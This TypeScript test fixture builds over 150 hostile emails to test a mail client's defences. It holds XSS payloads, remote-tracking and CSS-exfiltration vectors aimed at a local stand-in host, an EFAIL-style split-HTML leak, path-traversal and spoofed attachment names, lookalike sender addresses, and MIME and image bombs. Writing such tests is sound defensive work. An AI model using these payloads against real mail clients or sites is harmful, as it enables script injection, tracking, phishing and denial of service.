import { file, gif, html, multipart, plain, rawMail } from './reading'

/** A mail that tries something. What it may fetch after consent is named `/img-…`, everything else `/bad-…`. */
export interface HostileMail {
  readonly subject: string
  readonly source: Buffer
  /** Whether it asks for remote pictures that a user may allow. */
  readonly pictures: boolean
}

const pwn = "top.document.title='PWNED';console.error('PWNED')"

/** More than 150 hostile mails against a host on this device. */
export function hostileMails({
  https,
  http,
}: {
  readonly https: string
  readonly http: string
}): readonly HostileMail[] {
  const mails: HostileMail[] = []
  const bad = (name: string): string => `${http}/bad-${name}`
  const add = (subject: string, source: Buffer, pictures = false): void =>
    void mails.push({ subject, source, pictures })
  const addHtml = (kind: string, vectors: Readonly<Record<string, string>>): void => {
    for (const [name, markup] of Object.entries(vectors))
      add(
        `${kind} ${name}`,
        rawMail({ subject: `${kind} ${name}`, entity: html(`<p>before</p>${markup}<p>after</p>`) }),
        /<img[^>]+src="https/.test(markup),
      )
  }

  addHtml('script', {
    plain: `<script>${pwn}</script>`,
    source: `<script src="${bad('script')}"></script>`,
    module: `<script type="module">import "${bad('module')}"</script>`,
    importmap: `<script type="importmap">{"imports":{"a":"${bad('importmap')}"}}</script>`,
    speculation: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bad('speculation')}"]}]}</script>`,
    broken: `<scr<script>ipt>${pwn}</scr</script>ipt>`,
    null: `<scr\0ipt>${pwn}</scr\0ipt>`,
    slash: `<script/x>${pwn}</script/x>`,
    onerror: `<img src=x onerror="${pwn}">`,
    'onerror-quotes': `<img src=\`x\` onerror=\`${pwn}\`>`,
    onload: `<body onload="${pwn}"><svg onload="${pwn}">`,
    onfocus: `<input autofocus onfocus="${pwn}"><textarea autofocus onfocus="${pwn}"></textarea>`,
    ontoggle: `<details open ontoggle="${pwn}"><summary>x</summary></details>`,
    onanimation: `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${pwn}">x</b>`,
    onscroll: `<div style="overflow:auto;height:10px" onscroll="${pwn}"><p id=x style="height:900px"></p></div>`,
    onpointer: `<b style="position:absolute;inset:0" onpointerover="${pwn}" onmouseover="${pwn}">x</b>`,
    'href-javascript': `<a href="javascript:${pwn}">click</a>`,
    'href-tab': `<a href="java&#9;script:${pwn}">click</a>`,
    'href-entity': `<a href="&#106;avascript&colon;${pwn}">click</a>`,
    'href-data': `<a href="data:text/html,<script>${pwn}</script>">click</a>`,
    'href-vbscript': '<a href="vbscript:MsgBox(1)">click</a>',
    'src-javascript': `<img src="javascript:${pwn}"><iframe src="javascript:${pwn}"></iframe>`,
    srcdoc: `<iframe srcdoc="<script>${pwn}</script>"></iframe>`,
    svg: `<svg><script>${pwn}</script></svg>`,
    'svg-animate': `<svg><a><animate attributeName=href values="javascript:${pwn}" /><text>x</text></a></svg>`,
    'svg-use': '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    'svg-foreign': `<svg><foreignObject><iframe srcdoc="<script>${pwn}</script>"></iframe></foreignObject></svg>`,
    math: `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${pwn}">`,
    'math-href': `<math><maction actiontype="statusline" xlink:href="javascript:${pwn}">x</maction></math>`,
    mutation: `<noscript><p title="</noscript><img src=x onerror=${pwn}>">`,
    'mutation-style': `<svg></p><style><a id="</style><img src=1 onerror=${pwn}>">`,
    'mutation-table': `<table><td><svg><desc><table><td></desc><img src=x onerror="${pwn}"></table>`,
    template: `<template><script>${pwn}</script></template><template shadowrootmode="open"><script>${pwn}</script></template>`,
    clobber:
      '<form id=document><input name=cookie><input name=body></form><img name=implementation><a id=attributes></a>',
    proto: '<a id="__proto__"></a><a id="constructor" name="hasOwnProperty">x</a>',
    object: `<object data="data:text/html,<script>${pwn}</script>"></object><embed src="data:image/svg+xml,<svg onload='${pwn}'/>">`,
    applet: `<applet code="x" codebase="${bad('applet')}"></applet>`,
    xml: `<?xml version="1.0"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${pwn}</h:script></x>`,
    comment: `<!--><script>${pwn}</script>-->`,
    conditional: `<!--[if gte mso 1]><script>${pwn}</script><![endif]--><![if !mso]>x<![endif]>`,
    cdata: `<![CDATA[<script>${pwn}</script>]]>`,
    xmp: `<xmp><script>${pwn}</script></xmp><plaintext><script>${pwn}</script>`,
    'meta-refresh-js': `<meta http-equiv="refresh" content="0;url=javascript:${pwn}">`,
    'set-cookie': '<meta http-equiv="Set-Cookie" content="a=b">',
    'csp-weaker': `<meta http-equiv="Content-Security-Policy" content="default-src *"><script>${pwn}</script>`,
    'title-break': `<title><script>${pwn}</script></title></title><script>${pwn}</script>`,
    'srcdoc-quote': `"></iframe><script>${pwn}</script><iframe srcdoc="`,
    'body-break': `</body></html><script>${pwn}</script><html><body>`,
  })

  const image = `${https}/img-`
  addHtml('remote', {
    img: `<img src="${image}1.png">`,
    'img-http': `<img src="${http}/bad-img.png">`,
    'img-protocol': `<img src="${http.replace('http:', '')}/bad-protocol.png">`,
    'img-srcset': `<img src="${image}2.png" srcset="${https}/bad-srcset.png 2x">`,
    'img-srcset-only': `<img srcset="${bad('srcset-only')} 1x">`,
    'img-lowsrc': `<img lowsrc="${bad('lowsrc')}" dynsrc="${bad('dynsrc')}">`,
    'img-longdesc': `<img longdesc="${bad('longdesc')}" usemap="#m" src="${image}3.png">`,
    'img-lazy': `<img loading="lazy" src="${image}4.png">`,
    'img-crossorigin': `<img crossorigin="use-credentials" src="${image}5.png">`,
    'img-pixel': `<img width="1" height="1" src="${image}6.gif">`,
    'img-hidden': `<img style="display:none" src="${image}7.gif">`,
    'img-private':
      '<img src="https://192.168.0.1/bad.png"><img src="https://169.254.169.254/bad"><img src="https://[::1]/bad">',
    'img-file': '<img src="file:///etc/passwd"><img src="\\\\host\\share\\x.png"><img src="smb://host/x">',
    'img-app':
      '<img src="tern://app/index.html"><img src="tern://app/part/x/1"><img src="tern-picture://00000000000000000000000000000000/part/1">',
    'img-blob': '<img src="blob:tern://app/1"><img src="filesystem:tern://app/x">',
    'img-svg-data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${bad('svg-data')}'/></svg>">`,
    image: `<image src="${bad('image')}">`,
    picture: `<picture><source srcset="${bad('picture')}"><img src="${image}8.png"></picture>`,
    'input-image': `<input type="image" src="${bad('input')}">`,
    video: `<video src="${bad('video')}" poster="${bad('poster')}" autoplay></video>`,
    audio: `<audio src="${bad('audio')}" autoplay></audio>`,
    track: `<video><source src="${bad('source')}"><track src="${bad('track')}" default></video>`,
    bgsound: `<bgsound src="${bad('bgsound')}">`,
    background: `<body background="${bad('body')}"><table background="${bad('table')}"><td background="${bad('td')}">x</td></table>`,
    iframe: `<iframe src="${bad('iframe')}"></iframe>`,
    frameset: `<frameset><frame src="${bad('frame')}"></frameset>`,
    object: `<object data="${bad('object')}"></object>`,
    embed: `<embed src="${bad('embed')}">`,
    portal: `<portal src="${bad('portal')}"></portal><fencedframe></fencedframe>`,
    'link-css': `<link rel="stylesheet" href="${bad('css')}">`,
    'link-prefetch': `<link rel="prefetch" href="${bad('prefetch')}"><link rel="preload" as="image" href="${bad('preload')}">`,
    'link-preconnect': `<link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}">`,
    'link-icon': `<link rel="icon" href="${bad('icon')}"><link rel="manifest" href="${bad('manifest')}">`,
    'link-import': `<link rel="import" href="${bad('import')}"><link rel="modulepreload" href="${bad('modulepreload')}">`,
    'meta-refresh': `<meta http-equiv="refresh" content="0;url=${bad('refresh')}">`,
    'meta-link': `<meta http-equiv="Link" content="<${bad('meta-link')}>; rel=preload; as=image">`,
    base: `<base href="${http}/"><img src="bad-base.png"><a href="bad-base">x</a>`,
    form: `<form action="${bad('form')}"><button autofocus>x</button><input type=submit></form>`,
    formaction: `<button formaction="${bad('formaction')}">x</button>`,
    ping: `<a href="https://example.org/" ping="${bad('ping')}">x</a>`,
    download: `<a href="${bad('download')}" download>x</a>`,
    area: `<map name=m><area href="${bad('area')}" shape=default></map>`,
    'svg-image': `<svg><image href="${bad('svg-image')}" xlink:href="${bad('svg-xlink')}"/></svg>`,
    'svg-use': `<svg><use href="${bad('svg-use')}#a"/></svg>`,
    'svg-feimage': `<svg><filter id=f><feImage href="${bad('feimage')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
    'svg-style': `<svg><style>rect{fill:url(${bad('svg-style')})}</style><rect width=9 height=9 /></svg>`,
    cite: `<blockquote cite="${bad('cite')}">x</blockquote><q cite="${bad('q')}">x</q><ins cite="${bad('ins')}">x</ins>`,
    html: `<html manifest="${bad('appcache')}">`,
    marquee: `<marquee behavior="url(${bad('marquee')})">x</marquee>`,
    math: `<math href="${bad('math')}"><mi>x</mi></math>`,
    attribution: `<img attributionsrc="${bad('attribution')}" src="${image}9.png">`,
    many: Array.from({ length: 30 }, (_, index) => `<img src="${image}m${index}.png">`).join(''),
  })

  const sheet = (css: string): string => `<style>${css}</style><div class="x" id="x">x</div>`
  addHtml('css', {
    import: sheet(`@import url(${bad('import')});@import "${bad('import2')}" screen;`),
    background: sheet(`.x{background:url(${bad('background')})}`),
    inline: `<div style="background-image:url('${bad('inline')}')">x</div>`,
    'inline-escape': `<div style="background:\\75\\72\\6c(${bad('escape')})">x</div>`,
    comment: sheet(`.x{background:u/**/rl(${bad('comment')})}`),
    font: sheet(`@font-face{font-family:a;src:url(${bad('font')})}.x{font-family:a}`),
    'font-range': sheet(`@font-face{font-family:a;src:url(${bad('range')});unicode-range:U+0041}*{font-family:a}`),
    list: sheet(`.x{display:list-item;list-style:url(${bad('list')})}`),
    cursor: sheet(`.x{cursor:url(${bad('cursor')}),auto}`),
    content: sheet(`.x::before{content:url(${bad('content')})}`),
    border: sheet(`.x{border:9px solid;border-image:url(${bad('border')}) 9}`),
    mask: sheet(`.x{mask:url(${bad('mask')});-webkit-mask-image:url(${bad('webkit-mask')})}`),
    filter: sheet(`.x{filter:url(${bad('filter')}#a);clip-path:url(${bad('clip')}#a)}`),
    shape: sheet(`.x{float:left;width:9px;height:9px;shape-outside:url(${bad('shape')})}`),
    imageset: sheet(`.x{background:image-set("${bad('imageset')}" 1x)}`),
    crossfade: sheet(`.x{background:-webkit-cross-fade(url(${bad('fade1')}),url(${bad('fade2')}),50%)}`),
    variable: sheet(`:root{--u:url(${bad('variable')})}.x{background:var(--u)}`),
    property: sheet(
      `@property --p{syntax:"<url>";inherits:false;initial-value:url(${bad('property')})}.x{background:var(--p)}`,
    ),
    attribute: sheet(`div[id^="x"]{background:url(${bad('attribute')})}`),
    media: sheet(`@media (min-width:1px){.x{background:url(${bad('media')})}}`),
    supports: sheet(`@supports (color:red){.x{background:url(${bad('supports')})}}`),
    layer: sheet(`@layer a{.x{background:url(${bad('layer')})}}@import url(${bad('layer2')}) layer(b);`),
    container: sheet(`@container (min-width:1px){.x{background:url(${bad('container')})}}`),
    nested: sheet(`.x{& b{background:url(${bad('nested')})}}`),
    namespace: sheet(`@namespace url(${bad('namespace')});.x{color:red}`),
    keyframes: sheet(`@keyframes k{to{background:url(${bad('keyframes')})}}.x{animation:k 1s}`),
    document: sheet(`@document url(${http}){.x{background:url(${bad('document')})}}`),
    fixed: '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Your session is over. Sign in</div>',
    sticky: '<div style="position:sticky;top:0;height:9999px">x</div>',
    expression: `<div style="width:expression(${pwn})">x</div>`,
    behavior: `<div style="behavior:url(${bad('behavior')});-moz-binding:url(${bad('binding')})">x</div>`,
    'close-style': `<style>.x{color:red}</style/><img src=x onerror="${pwn}"></style>`,
    'style-attribute': `<style media="x" onload="${pwn}">.x{color:red}</style>`,
    'srcdoc-colour': '<div style="color-scheme:dark;zoom:50;transform:scale(1000)">x</div>',
  })

  const related = (markup: string, ...parts: readonly (readonly string[])[]): readonly string[] =>
    multipart('related', html(markup), ...parts)
  const inline = (id: string, type: string, content: Buffer | string): readonly string[] => [
    `Content-Type: ${type}`,
    `Content-ID: <${id}>`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(content).toString('base64'),
  ]
  const addEntity = (subject: string, entity: readonly string[]): void => add(subject, rawMail({ subject, entity }))
  addEntity('cid honest', related('<img src="cid:a@b" alt="mine">', inline('a@b', 'image/gif', gif)))
  addEntity(
    'cid svg',
    related(
      '<img src="cid:s">',
      inline(
        's',
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"><image href="${bad('cid-svg')}"/></svg>`,
      ),
    ),
  )
  addEntity(
    'cid svg as png',
    related(
      '<img src="cid:s">',
      inline('s', 'image/png', `<svg xmlns="http://www.w3.org/2000/svg"><script>${pwn}</script></svg>`),
    ),
  )
  addEntity(
    'cid html',
    related('<img src="cid:h"><iframe src="cid:h"></iframe>', inline('h', 'text/html', `<script>${pwn}</script>`)),
  )
  addEntity(
    'cid css',
    related(
      '<link rel=stylesheet href="cid:c"><style>@import "cid:c"</style>',
      inline('c', 'text/css', `*{background:url(${bad('cid-css')})}`),
    ),
  )
  addEntity(
    'cid path',
    related(
      '<img src="cid:../../../etc/passwd"><img src="cid:%2e%2e%2f1"><img src="cid:%zz">',
      inline('../../../etc/passwd', 'image/gif', gif),
    ),
  )
  addEntity(
    'cid proto',
    related('<img src="cid:__proto__"><img src="cid:constructor">', inline('__proto__', 'image/gif', gif)),
  )
  addEntity('cid huge picture', related('<img src="cid:h">', inline('h', 'image/png', hugePng())))
  addEntity('content location', [
    ...multipart('related', html(`<img src="${http}/bad-location.png">`), [
      'Content-Type: image/gif',
      `Content-Location: ${http}/bad-location.png`,
      '',
      'x',
    ]),
  ])
  addEntity('html in two halves', multipart('mixed', html(`<img src="${http}/bad-efail?`), plain('SECRET'), html('">')))
  addEntity('external body', [
    `Content-Type: message/external-body; access-type=URL; URL="${bad('external')}"`,
    '',
    'Content-Type: image/png',
    '',
  ])
  addEntity('partial', ['Content-Type: message/partial; id=a; number=1; total=2', '', 'x'])

  let deep: readonly string[] = plain('deep inside')
  for (let level = 0; level < 100; level += 1) deep = multipart('mixed', deep)
  addEntity('nested 100 deep', deep)
  let messages: readonly string[] = ['Subject: innermost', ...plain('deep message')]
  for (let level = 0; level < 60; level += 1)
    messages = [`Subject: level ${level}`, 'Content-Type: message/rfc822', '', ...messages]
  addEntity('60 messages inside each other', messages.slice(1))
  addEntity('10,000 parts', multipart('mixed', ...Array.from({ length: 10_000 }, () => plain('x'))))
  addEntity(
    '1,000 html parts',
    multipart('mixed', ...Array.from({ length: 1_000 }, (_, index) => html(`<b>${index}</b>`))),
  )
  addEntity('boundary never ends', [
    'Content-Type: multipart/mixed; boundary=z',
    '',
    '--z',
    'Content-Type: text/plain',
    '',
    'no end',
  ])
  addEntity('boundary missing', ['Content-Type: multipart/mixed', '', '--z', 'text'])
  addEntity('boundary empty', ['Content-Type: multipart/mixed; boundary=""', '', '--', '', 'x', '----'])
  addEntity('boundary prefix', [
    'Content-Type: multipart/mixed; boundary=a',
    '',
    '--a',
    '',
    'one',
    '--ab',
    '',
    'two',
    '--a--',
  ])
  addEntity('base64 of nonsense', [
    'Content-Type: text/plain',
    'Content-Transfer-Encoding: base64',
    '',
    '*** not base64 \u0000 ***',
  ])
  addEntity('quoted-printable of nonsense', [
    'Content-Type: text/html',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    '=ZZ=<b>=3Cscript=3Ealert(1)=3C/script=3E=',
  ])
  addEntity('unknown encoding', ['Content-Type: text/html', 'Content-Transfer-Encoding: x-evil', '', '<b>x</b>'])
  addEntity('unknown charset', ['Content-Type: text/html; charset=x-evil', '', '<b>x</b>'])
  addEntity('utf-7', ['Content-Type: text/html; charset=utf-7', '', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'])
  addEntity('header of 300 kB', [`X-Long: ${'x'.repeat(300_000)}`, ...plain('after a long header')])
  addEntity('10,000 header lines', [
    ...Array.from({ length: 10_000 }, (_, index) => `X-${index}: y`),
    ...plain('after many lines'),
  ])
  addEntity('no body', ['Content-Type: text/html'])
  addEntity('alternatives of nothing', multipart('alternative'))
  addEntity('one megabyte of html', html('<p>word</p>'.repeat(95_000)))
  addEntity('a line of a megabyte', plain('x'.repeat(1_000_000)))
  addEntity('half a million quotes', plain('> a\nb\n'.repeat(80_000)))
  addEntity('a million blanks', plain(`a${' '.repeat(900_000)}b`))
  addEntity(
    'a million blanks in html',
    html(`<a href="https://example.org">a${'&nbsp; '.repeat(60_000)}b</a>${' '.repeat(200_000)}b`),
  )
  addEntity('a boundary of blanks', [`Content-Type: multipart/mixed; boundary="a${' '.repeat(200_000)}b"`, '', 'x'])
  addEntity('links without end', plain('http://a.example/ '.repeat(30_000)))
  addEntity('50,000 nested divs', html('<div>'.repeat(50_000)))
  addEntity('50,000 nested bold', html('<b>'.repeat(50_000)))
  addEntity('nested tables', html('<table><tr><td>'.repeat(2_000)))
  addEntity(
    'an element of 50,000 attributes',
    html(`<p ${Array.from({ length: 50_000 }, (_, index) => `a${index}`).join(' ')}>x</p>`),
  )
  addEntity('100,000 elements', html('<i></i>'.repeat(100_000)))
  addEntity('a style of half a megabyte', html(`<style>${'.a .b>c:not(.d){color:red}'.repeat(18_000)}</style>x`))
  addEntity(
    'selectors that take for ever',
    html(
      `<style>${Array.from({ length: 200 }, (_, i) => `:has(:has(*) *) .a${i}{color:red}`).join('')}</style>${'<div>'.repeat(300)}x`,
    ),
  )
  addEntity('nul everywhere', plain('a\0b\0c'))
  addEntity('calendar of nonsense', [
    'Content-Type: text/calendar',
    '',
    'BEGIN:VCALENDAR',
    'BEGIN:VEVENT',
    'DTSTART:99999999',
    'RRULE:FREQ=SECONDLY',
    'END:VEVENT',
  ])
  addEntity('calendar with script', [
    'Content-Type: text/calendar',
    '',
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'BEGIN:VEVENT',
    'DTSTART:20261201T090000Z',
    `SUMMARY:<img src=x onerror=${pwn}>`,
    `ATTACH:${bad('attach')}`,
    `URL:${bad('calendar-url')}`,
    'END:VEVENT',
    'END:VCALENDAR',
  ])
  addEntity('vcard with photo', [
    'Content-Type: text/vcard',
    '',
    'BEGIN:VCARD',
    'VERSION:3.0',
    `FN:<script>${pwn}</script>`,
    `PHOTO;VALUE=URI:${bad('photo')}`,
    `LOGO;VALUE=URI:${bad('logo')}`,
    'END:VCARD',
  ])

  for (const [name, given] of Object.entries({
    path: '../../../../etc/cron.d/evil',
    bidi: 'photo\u202egnp.exe',
    long: `${'x'.repeat(3_000)}.exe`,
    blanks: `invoice.pdf${' '.repeat(200)}.exe`,
    device: 'CON.txt',
    null: 'a\0.exe',
    markup: `<img src=x onerror=${pwn}>.txt`,
    stream: 'a.txt:evil.exe',
    empty: '',
    dots: '...',
  }))
    addEntity(`file ${name}`, multipart('mixed', plain('see file'), file(given, 'application/octet-stream', 'x')))
  addEntity(
    'file svg',
    multipart(
      'mixed',
      plain('see file'),
      file(
        'x.svg',
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"><image href="${bad('file-svg')}"/></svg>`,
      ),
    ),
  )
  addEntity('file picture bomb', multipart('mixed', plain('see file'), file('x.png', 'image/png', hugePng())))
  addEntity(
    '2,000 files',
    multipart(
      'mixed',
      plain('see files'),
      ...Array.from({ length: 2_000 }, (_, index) => file(`${index}.txt`, 'application/x-data', 'x')),
    ),
  )

  for (const [name, from] of Object.entries({
    'another name': '"boss@example.org" <evil@example.com>',
    'two addresses': 'boss@example.org <evil@example.com> <evil2@example.com>',
    bidi: '=?utf-8?B?4oCuZ3JvLmVscG1heGVAc3NvYg==?= <evil@example.com>',
    blanks: `"boss@example.org${' '.repeat(300)}" <evil@example.com>`,
    newline: '=?utf-8?Q?boss=0D=0A=3Cboss@example.org=3E?= <evil@example.com>',
    'mixed script': 'PayPal <service@pаypal.com>',
    punycode: 'Apple <id@xn--80ak6aa92e.com>',
    group: 'boss@example.org:evil@example.com;',
    markup: `"<img src=x onerror=${pwn}>" <evil@example.com>`,
    nobody: '',
  }))
    add(`sender ${name}`, rawMail({ subject: `sender ${name}`, from, entity: plain('hello') }))
  add(
    'sender doubled',
    rawMail({ subject: 'sender doubled', fields: ['From: other@example.com'], entity: plain('hello') }),
  )
  add(
    'sender receipt',
    rawMail({
      subject: 'sender receipt',
      fields: [
        'Disposition-Notification-To: spy@example.com',
        'Return-Receipt-To: spy@example.com',
        `List-Unsubscribe: <${bad('unsubscribe')}>`,
        `Face: ${bad('face')}`,
        `X-Image-URL: ${bad('x-image')}`,
      ],
      entity: plain('hello'),
    }),
  )
  return mails
}

/** A picture of 60,000 by 60,000 dots in a few octets: drawn, it would take 14 GB. */
function hugePng(): Buffer {
  const head = Buffer.from(
    '89504e470d0a1a0a0000000d49484452000000000000000008060000000000000000000049454e44ae426082',
    'hex',
  )
  head.writeUInt32BE(60_000, 16)
  head.writeUInt32BE(60_000, 20)
  return head
}
